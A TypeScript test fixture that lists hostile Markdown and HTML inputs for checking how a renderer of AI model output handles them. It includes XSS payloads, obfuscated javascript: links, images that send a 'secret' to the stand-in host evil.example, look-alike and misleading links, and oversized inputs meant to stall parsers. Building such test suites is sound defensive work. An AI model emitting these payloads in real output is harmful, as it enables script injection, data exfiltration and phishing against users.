/** Addresses that no answer may reach by itself. */
const EVIL = 'https://evil.example'

const repeat = (text: string, times: number) => text.repeat(times)

/** Texts of models that try to run code, to load from elsewhere, to mislead, or to overload: by what they try. */
export const ATTACKS: Readonly<Record<string, string>> = {
  // Raw HTML, which some renderers pass to a sanitizer (Helicone PR #5589) and some to the page.
  'a script': '<script>window.hit = 1</script>',
  'a script in a paragraph': 'Hello <script src="https://evil.example/a.js"></script> there',
  'an image with a handler': '<img src=x onerror="window.hit = 1">',
  'an image with a handler in a list': '- <img/src=x/onerror=window.hit=1>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  'an object and an embed':
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
  'a style element': '<style>@import "https://evil.example/a.css";</style>',
  'a link to a style sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'a base': '<base href="https://evil.example/">\n\n[a](b)',
  'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  'a form': '<form action="https://evil.example"><input name="key"><button>Log in</button></form>',
  'a drawing with a handler': '<svg onload="window.hit = 1"><circle r="9"/></svg>',
  'a drawing with a script': '<svg><script>window.hit = 1</script></svg>',
  'a drawing with a link': '<svg><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  'a drawing that uses another': '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  'a formula with a link': '<math><mtext><a href="javascript:window.hit=1">x</a></mtext></math>',
  'a mix of namespaces':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  'a video and its poster':
    '<video poster="https://evil.example/p.png" src="https://evil.example/v"></video>',
  'a source set': '<img srcset="https://evil.example/a.png 2x">',
  'a style attribute': '<p style="background: url(https://evil.example/a.png)">text</p>',
  'a handler of focus': '<input autofocus onfocus=window.hit=1>',
  'a details element with a handler':
    '<details open ontoggle=window.hit=1><summary>x</summary></details>',
  'a template': '<template><script>window.hit = 1</script></template>',
  'a custom element': '<edge-moa key="pk_moa_x" url="https://evil.example"></edge-moa>',
  'a comment with a script': '<!-- --><script>window.hit = 1</script><!-- -->',
  'a comment that ends oddly': '<!--><img src=x onerror=window.hit=1>-->',
  'a declaration and a section': '<!DOCTYPE html><![CDATA[<script>window.hit = 1</script>]]>',
  'a tag over lines': '<img\nsrc=x\nonerror=window.hit=1\n>',
  'a tag without an end': 'text <img src=x onerror=window.hit=1 ',
  'a tag in capitals': '<ScRiPt>window.hit = 1</sCrIpT>',
  'tags as entities': '&lt;img src=x onerror=window.hit=1&gt; &#60;script&#62;',

  // Links that run code (hermes-webui PR #923, KunAgent PR #71).
  'a link that runs code': '[open](javascript:window.hit=1)',
  'a link in capitals': '[open](JaVaScRiPt:window.hit=1)',
  'a link with entities': '[open](&#106;avascript:window.hit=1)',
  'a link with named entities': '[open](java&Tab;script&colon;window.hit=1)',
  'a link with a tab': '[open](java\tscript:window.hit=1)',
  'a link with a line break': '[open](java\nscript:window.hit=1)',
  'a link with a control character': '[open](\u0001javascript:window.hit=1)',
  'a link with a space before it': '[open]( javascript:window.hit=1)',
  'a link in angles': '[open](<javascript:window.hit=1>)',
  'a link in angles with spaces': '[open](< javascript:window.hit=1>)',
  'a link with an escape': '[open](javascript\\:window.hit=1)',
  'a link with a percent escape': '[open](javascript%3Awindow.hit=1)',
  'a link with a zero-width space': '[open](java\u200Bscript:window.hit=1)',
  'a link with full-width letters': '[open](ｊavascript:window.hit=1)',
  'an automatic link that runs code': '<javascript:window.hit=1>',
  'an image that runs code': '![x](javascript:window.hit=1)',
  'a link to data': '[open](data:text/html,<script>window.hit=1</script>)',
  'a link to data in base 64': '[open](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)',
  'an image of data with code': '![x](data:image/svg+xml,<svg onload="window.hit=1"/>)',
  'a link of Visual Basic': '[open](vbscript:msgbox(1))',
  'a link to a blob': '[open](blob:https://evil.example/1)',
  'a link to a file': '[open](file:///etc/passwd)',
  'a link to another program': '[open](ms-msdt:/id PCWDiagnostic)',
  'a link by reference': '[open][1]\n\n[1]: javascript:window.hit=1',
  'a link with a title that ends it':
    '[open](https://evil.example "\\" onclick=window.hit=1 x=\\"")',
  'a link with quotes inside': '[open](https://evil.example/"onmouseover="window.hit=1)',
  'mail with more headers': '[mail](mailto:a@b.example?bcc=all@evil.example&body=secret)',
  'a link in the text of a link': '[a [b](javascript:window.hit=1)](https://evil.example)',

  // Images that carry away what they know (OWASP LLM05; GenAI-LLM-Top10 PR #9).
  'an image that carries a secret': `![x](${EVIL}/?q=secret)`,
  'an image by reference': `![x][1]\n\n[1]: ${EVIL}/?q=secret`,
  'an image in a link': `[![x](${EVIL}/a.png)](${EVIL})`,
  'a link in an image': `![[x](${EVIL})](${EVIL}/a.png)`,
  'an image in a table': `| a |\n|---|\n| ![x](${EVIL}/a.png) |`,
  'an image in a heading and a list': `# ![x](${EVIL}/a)\n\n1. ![x](${EVIL}/b)`,
  'an image in emphasis': `**![x](${EVIL}/a)** ~~![x](${EVIL}/b)~~`,
  'an image of this very origin': '![x](/v1/runs)',
  'an image without a scheme': '![x](//evil.example/a.png)',
  'an image over plain http': '![x](http://evil.example/a.png)',
  'many images': repeat(`![](${EVIL}/a) `, 50),

  // Links that mislead (llmgateway PR #2636).
  'a host without a scheme': '[open](//evil.example)',
  'a host with backslashes': '[open](https:\\\\evil.example)',
  'a path of this origin': '[settings](/ui/dashboard)',
  'a name before the host': '[bank](https://bank.example@evil.example/)',
  'a name and a password before the host': '[bank](https://bank.example:443@evil.example/)',
  'a name before the host, escaped': '[bank](https://bank.example%2F@evil.example/)',
  'a text that names another host': '[https://bank.example/login](https://evil.example)',
  'a look-alike host': '[bank](https://bаnk.example)',
  'a look-alike host by itself': 'https://bаnk.example',
  'text that is turned around': '[\u202Eknab](https://evil.example) \u2066hidden\u2069',
  'an address behind dots': 'https://bank.example...@evil.example/x',

  // Attributes of code, lists and tables.
  'a language with a handler': '```js" onclick="window.hit=1\nx\n```',
  'a language with a class': '```hidden visually-hidden top\nx\n```',
  'a language of markup': '```<img src=x onerror=window.hit=1>\nx\n```',
  'markup in code':
    '`<img src=x onerror=window.hit=1>`\n\n```html\n<script>window.hit=1</script>\n```',
  'a huge start of a list': '99999999999. x\n\n-1. y\n\n1e9. z',
  'markup in a table':
    '| <script> | b |\n|---|---|\n| <img src=x onerror=window.hit=1> | [x](javascript:1) |',
  'a task with markup': '- [x] <input onfocus=window.hit=1 autofocus>',
  'a formula with markup': '$$<img src=x onerror=window.hit=1>$$ \\(<script>\\)',
  'a footnote': '[^1]\n\n[^1]: <img src=x onerror=window.hit=1>',

  // Half-open constructs, and what comes after them.
  'a link without an end': '[open](javascript:window.hit=1',
  'an image without an end': `![x](${EVIL}/?q=`,
  'a code block without an end': '```html\n<script>window.hit=1</script>',
  'an emphasis without an end': '**<img src=x onerror=window.hit=1>',
  'a link that goes on after a break': '[open](java\n\nscript:window.hit=1)',
}

/** Texts that are large or deep: too long for every split. */
export const STRAINS: Readonly<Record<string, string>> = {
  'quotes in quotes': repeat('>', 5_000) + ' deep',
  'lists in lists': Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join(
    '\n',
  ),
  stars: repeat('*', 80_000),
  backticks: repeat('`', 80_000),
  'stars and letters': repeat('*a', 40_000),
  'openers of bold and italics': repeat('**a _b ', 8_000),
  brackets: repeat('[', 80_000),
  'links without ends': repeat('[a](', 20_000),
  'images in images': repeat('![', 20_000),
  'brackets that end': repeat('[a]', 20_000),
  'round brackets in an address': `[a](https://evil.example/${repeat('(', 5_000)})`,
  angles: repeat('<', 80_000),
  'tags without ends': repeat('<a href="', 10_000),
  dollars: repeat('$', 80_000),
  'formulas without ends': repeat('$$a ', 20_000),
  backslashes: repeat('\\', 80_000),
  'a table of many columns': `|${repeat('a|', 5_000)}\n|${repeat('-|', 5_000)}\n|${repeat('b|', 5_000)}`,
  bars: repeat('|', 80_000),
  addresses: repeat('https://evil.example/ ', 3_000),
  'one long word': repeat('a', 190_000),
  'combining marks': `a${repeat('\u0301', 50_000)}`,
  lines: repeat('\n', 100_000) + 'end',
  headings: repeat('#', 80_000),
  spaces: `${repeat(' ', 80_000)}x`,
  dashes: repeat('- ', 40_000),
}
